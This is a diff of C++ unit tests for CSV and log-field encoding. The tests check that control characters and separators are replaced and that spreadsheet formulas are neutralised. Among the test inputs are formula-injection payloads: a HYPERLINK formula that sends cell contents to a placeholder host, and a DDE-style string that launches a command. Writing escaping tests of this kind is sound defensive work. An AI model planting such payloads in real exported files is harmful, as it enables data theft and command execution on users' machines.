@@ -44,6 +44,9 @@ TEST(CsvBytes, TextIsLatin1WithQuestionMarksAndCrLf) {
   // TAB stays.
   EXPECT_EQ(Encoded(L"a\nb\r\nc"), "a?b??c");
   EXPECT_EQ(Encoded(L"\x1b[31mx\x7f\ty\x01\x1f "), "?[31mx?\ty?? ");
+  EXPECT_EQ(Encoded(L"\x80\x85\x9b"
+                    "2J\x9f\xa0\u2028\u2029"),
+            "???2J?\xa0??");
   std::string field;
   AppendCsvField(field, L"x");
   AppendCsvLineEnd(field);
@@ -124,6 +127,18 @@ TEST(FleetLogBytes, FieldsAreUtf8QuotedWhenTheyMustBe) {
       // Every other control character is "?", as everywhere else.
       {L"\x1b[31mred\x7f\x01\x1f", "?[31mred???"},
       {L"\x1b\r\n", "\"?\r\n\""},
+      {L"\x9b"
+       "2J\x85\u2028\u2029\xa0",
+       "?2J???\xC2\xA0"},
+      // Formula-looking text is text to a spreadsheet.
+      {L"=HYPERLINK(\"http://x/?\"&A1,\"click\")",
+       "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\""},
+      {L"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+      {L"+1+1", "'+1+1"},
+      {L"-2", "'-2"},
+      {L"\tx", "'\tx"},
+      {L"\rx", "\"'\rx\""},
+      {L"a=1", "a=1"},
       // Every character kept, in UTF-8.
       {L"caf\u00e9", "caf\xC3\xA9"},
       {L"\u4e2d", "\xE4\xB8\xAD"},
